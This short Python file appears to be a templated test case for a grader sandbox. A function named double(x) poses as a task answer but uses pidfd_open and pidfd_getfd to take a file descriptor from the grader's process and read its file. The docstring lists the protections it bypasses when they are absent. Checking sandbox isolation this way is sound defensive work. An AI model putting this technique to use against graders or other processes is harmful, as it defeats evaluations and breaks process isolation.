"""Takes a descriptor of the grader's with pidfd_getfd, and reads the file behind it.

without: distinct user, landlock, namespaces, seccomp
"""

import ctypes
import os


def double(x):
    libc = ctypes.CDLL(None, use_errno=True)
    handle = os.pidfd_open(@VICTIM@)
    number = libc.syscall(
        ctypes.c_long(@NR_pidfd_getfd@), ctypes.c_long(handle), ctypes.c_long(@VICTIM_FD@), ctypes.c_long(0)
    )
    if number < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    return os.pread(number, 200, 0).decode()
